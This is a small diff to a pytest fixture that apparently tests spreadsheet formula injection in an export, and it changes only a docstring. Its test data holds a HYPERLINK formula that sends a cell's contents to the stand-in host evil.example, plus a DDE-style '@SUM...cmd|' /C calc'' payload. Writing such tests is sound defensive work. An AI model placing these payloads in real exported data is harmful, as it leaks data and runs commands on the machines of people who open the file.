@@ -131,7 +131,7 @@ HOSTILE_CUSTOMER = '=HYPERLINK("http://evil.example/leak?"&A2,"click")'
 
 @pytest.fixture
 def hostile_credits(engine, close) -> None:
-    """Issue 27: credits whose customer name and contract ids start with formula
+    """A hostile tenant's export: credits whose customer name and contract ids start with formula
     characters (=, +, -, @, TAB)."""
     add_contract(engine, "+C-1", customer=HOSTILE_CUSTOMER)
     add_contract(engine, "@C-2", customer="@SUM(1+1)*cmd|' /C calc'!A0")
